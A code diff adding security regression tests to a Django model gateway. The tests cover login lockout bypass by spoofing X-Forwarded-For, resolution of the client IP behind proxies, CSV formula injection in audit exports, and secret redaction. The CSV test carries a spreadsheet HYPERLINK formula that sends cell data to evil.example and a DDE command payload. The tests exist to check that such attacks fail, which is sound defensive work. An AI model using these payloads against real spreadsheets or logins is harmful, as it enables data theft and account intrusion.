@@ -271,3 +271,106 @@ def test_the_admin_shows_model_output_as_text(admin_client, api, route, ollama):
         page = admin_client.get(path).content.decode()
         assert "<script>window.pwned" not in page and "<img src=x" not in page
     assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in page
+
+
+@pytest.mark.django_db
+def test_the_lockout_holds_behind_a_proxy_whatever_the_client_writes(person, settings):
+    """Point 12: with X-Forwarded-For trusted, its leftmost (client-chosen) entry was taken as the
+    address, so rotating it got past the lockout. Behind one proxy the client is the rightmost."""
+    settings.CORRAL_TRUSTED_PROXIES = 1
+    guesser = Client()
+    for attempt in range(settings.AXES_FAILURE_LIMIT):
+        guesser.post(
+            "/login/",
+            {"username": "pat", "password": "guess"},
+            HTTP_X_FORWARDED_FOR=f"198.51.100.{attempt}, 203.0.113.7",
+        )
+    response = guesser.post(
+        "/login/",
+        {"username": "pat", "password": PASSWORD},
+        HTTP_X_FORWARDED_FOR="192.0.2.99, 203.0.113.7",
+    )
+    assert response.status_code == 429
+    other = Client().post(
+        "/login/",
+        {"username": "pat", "password": PASSWORD},
+        HTTP_X_FORWARDED_FOR="203.0.113.8",  # another client behind the same proxy
+    )
+    assert other.status_code == 302
+
+
+@pytest.mark.django_db
+def test_the_client_address_is_the_trusted_hop(settings, rf):
+    from gateway.request_info import client_ip
+
+    request = rf.get("/", HTTP_X_FORWARDED_FOR="6.6.6.6, 198.51.100.1, 10.0.0.2")
+    request.META["REMOTE_ADDR"] = "10.0.0.3"
+    settings.CORRAL_TRUSTED_PROXIES = 0
+    assert client_ip(request) == "10.0.0.3"
+    settings.CORRAL_TRUSTED_PROXIES = 2
+    assert client_ip(request) == "198.51.100.1"
+    settings.CORRAL_TRUSTED_PROXIES = 5  # fewer hops than proxies: someone is lying
+    assert client_ip(request) == "10.0.0.3"
+
+
+@pytest.mark.django_db
+def test_csv_cells_never_run_as_formulas(admin_client, token, route, ollama):
+    """Point 12: a user agent or an answer starting with = ran as a formula in a spreadsheet."""
+    ollama.reply = '=HYPERLINK("http://evil.example/"&A1)'
+    response = Client().post(
+        "/api/v1/chat",
+        CHAT,
+        content_type="application/json",
+        HTTP_AUTHORIZATION=f"Bearer {token}",
+        HTTP_USER_AGENT="=cmd|' /C calc'!A0",
+    )
+    assert response.status_code == 200
+    exported = admin_client.get("/admin/audit/auditrecord/export/csv/")
+    text = b"".join(exported.streaming_content).decode()
+    import csv
+    import io
+
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["user_agent"] == "'=cmd|' /C calc'!A0"
+    assert row["completion"].startswith("'=HYPERLINK")
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+
+
+@pytest.mark.django_db(transaction=True)
+def test_redaction_covers_user_agent_metadata_and_tool_calls(token, route, ollama, settings, spans):
+    """Point 12: redaction covered content and answer, not the user agent, metadata or tool-call
+    arguments (nor the server span's user agent)."""
+    settings.CORRAL_REDACT_PATTERNS = [r"secret-\w+"]
+    ollama.tool_call = {"function": {"name": "lookup", "arguments": {"q": "secret-answer"}}}
+    body = {
+        "model": MODEL,
+        "metadata": {"ticket": "secret-meta"},
+        "tools": [{"type": "function", "function": {"name": "lookup"}}],
+        "messages": [
+            {"role": "user", "content": "go"},
+            {
+                "role": "assistant",
+                "content": "",
+                "tool_calls": [{"function": {"name": "f", "arguments": {"k": "secret-asked"}}}],
+            },
+            {"role": "tool", "content": "done"},
+        ],
+    }
+    response = Client().post(
+        "/api/v1/chat",
+        body,
+        content_type="application/json",
+        HTTP_AUTHORIZATION=f"Bearer {token}",
+        HTTP_USER_AGENT="agent secret-ua",
+    )
+    assert response.status_code == 200
+    record = AuditRecord.objects.get()
+    stored = json.dumps(
+        [record.user_agent, record.metadata, record.messages, record.tool_calls], default=str
+    )
+    assert "secret-" not in stored and stored.count("[REDACTED]") == 4, stored
+    call_span = spans.span_for_audit(str(record.id))
+    server = spans.find(lambda s: s.span_id == call_span.parent_span_id)[0]
+    assert "secret-" not in json.dumps(call_span.attributes)
+    assert "secret-" not in json.dumps(server.attributes)
+    assert "[REDACTED]" in json.dumps(server.attributes)
